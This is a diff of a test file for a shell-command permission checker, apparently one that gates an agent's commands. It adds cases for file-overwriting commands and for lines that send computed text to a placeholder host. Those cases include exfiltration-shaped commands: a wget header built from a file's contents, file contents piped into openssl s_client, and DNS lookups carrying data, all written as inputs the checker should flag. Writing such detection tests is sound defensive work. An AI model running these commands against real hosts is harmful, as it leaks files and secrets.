@@ -44,7 +44,7 @@ test.each([
   'npm -v',
   'python3 -m pip list',
   "psql -c '\\dt'",
-  'ip a s && ip l sh && tar czf x.tgz src',
+  'ip a s && ip l sh && tar cz src | wc -c',
 ])('runs unasked: %s', async (line) => {
   expect(await said(line)).toBe('allow');
 });
@@ -128,6 +128,64 @@ test('a redirect to a file that is not there replaces nothing', async () => {
   const isThere = (path: string): boolean => path === '/work/project/src/a.txt';
   expect(await said('echo x > b.txt', undefined, { isThere })).toBe('allow');
   expect(await said('cd src && echo x > a.txt', undefined, { isThere })).toBe('confirm: > a.txt replaces the file.');
+  // The cd may fail.
+  expect(await said('cd src; echo x > a.txt', undefined, { isThere })).toBe('confirm: > a.txt replaces the file.');
+});
+
+test('an option or argument that names a file asks where there is one, or where nobody knows', async () => {
+  const isThere = (path: string): boolean => path === '/work/project/src/a.txt';
+  const decide = async (line: string) => (await check(line, undefined, { isThere })).decision;
+  const forNew = [
+    'tar czf b.tgz src',
+    'tar -C src -cf b.tar .',
+    'cp src/a.txt b.txt',
+    'ls | tee b.txt',
+    'tee -a src/a.txt < x',
+    'curl -so b.txt https://x.example',
+    'sort -o b.txt src/a.txt',
+    'git archive -o b.zip HEAD',
+    'go test -coverprofile=c.out ./...',
+    'openssl rand -out b.bin 8',
+    'sort -o /dev/null x',
+  ];
+  for (const line of forNew) expect([line, await decide(line)]).toStrictEqual([line, 'allow']);
+  const asked = [
+    'tar czf src/a.txt docs',
+    'cp x src/a.txt',
+    'ls | tee b.txt src/a.txt',
+    'cd src; tar cf a.txt ../docs',
+    'git -C src archive -o a.txt HEAD',
+    'curl -o "#1.txt" https://x.example/{a,b}',
+    'curl --output-dir src -o a.txt https://x.example',
+    'git archive -o out/$X.zip HEAD',
+    'ls | xargs -I% tee out/%',
+    'git archive --output=/etc/new.tar HEAD',
+  ];
+  for (const line of asked) expect([line, await decide(line)]).toStrictEqual([line, 'confirm']);
+});
+
+test('a text that a line computes is sent where it is part of an address, a header or a host name', async () => {
+  const sends = [
+    'wget "https://x.example/?$X"',
+    'wget -q --header="A: $(cat a.txt)" https://x.example',
+    'host "$X.x.example"',
+    'ping -c 1 "a$X.example"',
+    'npm view "https://x.example/$X"',
+    'docker pull "x.example/a:$X"',
+    'cat a.txt | openssl s_client -connect x.example:443',
+    'openssl s_client -connect x.example:443 <<< "$X"',
+    'cat a.txt | http https://x.example',
+  ];
+  for (const line of sends) expect([line, (await check(line)).decision]).toStrictEqual([line, 'confirm']);
+  const fixed = [
+    'wget "https://x.example/?page=1"',
+    'for page in 1 2; do wget -q "https://x.example/?page=$page"; done',
+    'echo | openssl s_client -connect x.example:443',
+    'openssl s_client -connect x.example:443 < /dev/null',
+    'cat a.txt | nslookup x.example',
+    'git commit -m "see https://x.example/$X"',
+  ];
+  for (const line of fixed) expect([line, (await check(line)).decision]).toStrictEqual([line, 'allow']);
 });
 
 test('the strictest part decides, and who has nobody to ask denies what is not understood', async () => {
